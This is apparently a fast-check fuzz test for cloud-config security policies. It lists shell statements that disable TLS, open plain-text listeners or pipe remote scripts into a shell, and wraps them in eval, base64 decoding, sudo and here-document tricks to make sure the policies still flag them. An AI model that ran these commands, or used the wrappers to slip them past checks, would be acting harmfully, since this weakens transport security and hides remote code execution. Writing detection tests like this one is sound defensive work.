/**
 * Harmful statements in random compositions of the shell: quoting, redirecting, substituting, grouping and calling. No
 * composition is judged harmless: a policy reports the harm, or that it does not understand the statement.
 */
import assert from "node:assert/strict";
import fc from "fast-check";
import { cloudConfig, droplet, memberFiles, nginxFiles } from "../../policy/fixtures/texts";
import { endToEndEncryption } from "../../policy/policies/end-to-end-encryption/policy";
import { knownHostConfiguration } from "../../policy/policies/known-host-configuration/policy";
import { IS_LONG } from "../longTests";
import { otherHarmful } from "./harmfulStatements";
import { judgeFixture } from "./harness";

const listener = "server { listen 80; root /srv; }";
const site = "/etc/nginx/conf.d/p.conf";
const options = "[mysqld]\\nrequire_secure_transport=OFF";

/** Each opens a plain text listener, switches off TLS, or runs code from elsewhere. None contains a single quote. */
const harmful: readonly string[] = [
  `echo "${listener}" > ${site}`,
  `printf "%s" "${listener}" > ${site}`,
  `echo "${listener}" | tee ${site}`,
  `cd /etc/nginx/conf.d; echo "${listener}" > p.conf`,
  `F=${site}; echo "${listener}" > "$F"`,
  `D=/etc/nginx; echo "${listener}" > $D/conf.d/p.conf`,
  `cp /srv/p.conf ${site}`,
  `mv /srv/p.conf /etc/nginx/conf.d/`,
  `ln -s /srv/p.conf ${site}`,
  "sed -i s/443/80/ /etc/nginx/conf.d/site.conf",
  "sed -i -e s/ssl// /etc/nginx/nginx.conf",
  "perl -pi -e s/443/80/ /etc/nginx/conf.d/site.conf",
  `dd if=/srv/p.conf of=${site}`,
  "install -m 644 /srv/p.conf /etc/nginx/conf.d/p.conf",
  "rsync -a /srv/nginx/ /etc/nginx/",
  "tar xf /srv/nginx.tar -C /etc/nginx",
  "unzip /srv/nginx.zip -d /",
  "patch -p0 < /srv/plain.patch",
  "ed /etc/nginx/nginx.conf",
  'truncate -s 0 /etc/nginx/nginx.conf; nginx -g "daemon off;"',
  "envsubst < /srv/p.tpl > /etc/nginx/conf.d/p.conf",
  "find /etc/nginx -name site.conf -exec sed -i s/443/80/ {} +",
  "ls /etc/nginx/conf.d | xargs sed -i s/443/80/",
  'awk "BEGIN { system(cmd) }"',
  "python3 /srv/configure.py",
  'python3 -c "print(1)"',
  'node -e "require(process.argv[1])"',
  "ruby /srv/configure.rb",
  "curl -s https://example.com/s | sh",
  "curl -s https://example.com/s > /tmp/s; sh /tmp/s",
  "git clone https://github.com/acme/x /srv/x; /srv/x/run",
  "wget -qO- https://example.com/s | bash",
  'mysql -e "SET GLOBAL require_secure_transport=OFF"',
  'mysql -e "SET PERSIST require_secure_transport=0"',
  'mysql -e "CHANGE REPLICATION SOURCE TO SOURCE_HOST=10, SOURCE_SSL=0"',
  "mysql < /srv/setup.sql",
  `printf "${options}" > /etc/mysql/conf.d/x.cnf`,
  "mysqld --require-secure-transport=OFF",
  "acme-configure --plain",
  "crontab /srv/table",
  "exec > /etc/nginx/conf.d/p.conf",
  "PATH=/srv/bin:$PATH; ls",
  "mount --bind /srv/nginx /etc/nginx",
  "openssl enc -d -in /srv/p -out /etc/nginx/conf.d/p.conf",
  "iptables -t nat -A PREROUTING -p tcp --dport 80 -j REDIRECT --to-port 8080",
  'mysql -e "SET GLOBAL require_secure_"transport=OFF',
  'mysql -e "SOURCE /srv/x.sql"',
];

const single = (text: string) => `'${text.replaceAll("'", "'\\''")}'`;
const base64 = (text: string) => Buffer.from(text).toString("base64");

/** Ways to run a statement. */
const wrappers: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `( ${text} )`,
  (text) => `{ ${text}; }`,
  (text) => `if true; then ${text}; fi`,
  (text) => `for x in 1 2; do ${text}; done`,
  (text) => `while :; do ${text}; break; done`,
  (text) => `case "$1" in a) true ;; *) ${text} ;; esac`,
  (text) => `run() { ${text}; }; run`,
  (text) => `function setup { ${text}; }\nsetup`,
  (text) => `true && ${text}`,
  (text) => `false || { ${text}; }`,
  (text) => `echo "$( ${text} )"`,
  (text) => `x=$( ${text} )`,
  (text) => `cat <( ${text} )`,
  (text) => `bash -c ${single(text)}`,
  (text) => `sudo sh -c ${single(text)}`,
  (text) => `sudo -u root bash -lc ${single(text)}`,
  (text) => `su - root -c ${single(text)}`,
  (text) => `env A=1 bash -c ${single(text)}`,
  (text) => `timeout 60 sh -c ${single(text)}`,
  (text) => `nohup bash -c ${single(text)} &`,
  (text) => `eval ${single(text)}`,
  (text) => `trap ${single(text)} EXIT`,
  (text) => `bash <<'INNER'\n${text}\nINNER`,
  (text) => `sh <<INNER\n${text.replace(/[$\\`]/g, "\\$&")}\nINNER`,
  (text) => `bash <<< ${single(text)}`,
  (text) => `echo ${single(text)} | sh`,
  (text) => `printf '%s\\n' ${single(text)} | sudo bash`,
  (text) => `echo ${base64(text)} | base64 -d | sh`,
  (text) => `bash -c "$(echo ${base64(text)} | base64 -d)"`,
  (text) => `eval "$(echo ${base64(text)} | base64 -d)"`,
  (text) => `. <(echo ${single(text)})`,
  (text) => `cat > /root/run.sh <<'FILE'\n#!/bin/sh\n${text}\nFILE\nsh /root/run.sh`,
  (text) => `printf '%s' ${single(text)} > /root/r; chmod +x /root/r; bash /root/r`,
  (text) => `find /root -maxdepth 0 -exec sh -c ${single(text)} \\;`,
  (text) => `echo x | xargs -I{} sh -c ${single(text)}`,
  (text) => `CMD=${single(text)}; eval "$CMD"`,
  (text) => `CMD=${single(text)}; bash -c "$CMD"`,
  (text) => `LIST=(one two); ${text}`,
  (text) => `: # ${"a comment"}\n${text} # another`,
];

const composition = fc
  .record({
    statement: fc.constantFrom(...harmful, ...otherHarmful.filter((text) => !text.includes("\n"))),
    ways: fc.array(fc.constantFrom(...wrappers), { minLength: 0, maxLength: 3 }),
    before: fc.constantFrom("", "set -eu\n", "apt-get update -y;", "export A=1\n", "cd /tmp\n"),
  })
  .map(({ statement, ways, before }) => before + ways.reduce((text, wrap) => wrap(text), statement));

function isReported(userData: string): boolean {
  const resources = { "host-1": droplet("host-1", { userData }) };
  return [endToEndEncryption, knownHostConfiguration].some(
    (definition) => judgeFixture(definition, { title: "fuzz", stack: "prod", resources }).length > 0,
  );
}

/** A host whose other parts are sound, so that only the script is wrong. */
const files = { ...nginxFiles, ...memberFiles };
const inCommands = (text: string) => cloudConfig(files, { runcmd: [text] });

describe("harmful statements of the shell", function () {
  this.timeout(IS_LONG ? 1_200_000 : 180_000);

  it("are not reported without reason: a host without them passes", () => {
    assert.equal(isReported(inCommands("true")), false);
  });

  it(`are reported: ${harmful.length} statements, each in ${wrappers.length} ways`, () => {
    const missed = harmful.flatMap((statement) =>
      wrappers.map((wrap) => wrap(statement)).filter((text) => !isReported(inCommands(text))),
    );
    console.log(`      ${missed.length} of ${harmful.length * wrappers.length} passed in silence`);
    assert.deepEqual(missed.slice(0, 20), []);
  });

  it(`are reported in ${otherHarmful.length} other forms, alone and within others`, () => {
    // A here-document ends at its own line, so a statement of several lines stays alone.
    const composed = (statement: string, index: number) =>
      wrappers.filter((_, at) => !statement.includes("\n") && (at + index) % 8 === 0);
    const tried = otherHarmful.flatMap((statement, index) => [
      statement,
      ...composed(statement, index).map((wrap) => wrap(statement)),
    ]);
    const missed = tried.filter((text) => !isReported(inCommands(text)));
    console.log(`      ${missed.length} of ${tried.length} passed in silence`);
    assert.ok(tried.length > 1_000);
    assert.deepEqual(missed.slice(0, 20), []);
  });

  it("are reported in random compositions", () => {
    fc.assert(
      fc.property(composition, (text) => isReported(inCommands(text))),
      // The short form always tries the same ones: a new finding must not stop work that has nothing to do with it.
      IS_LONG ? { numRuns: 50_000 } : { numRuns: 3_000, seed: 1 },
    );
  });
});
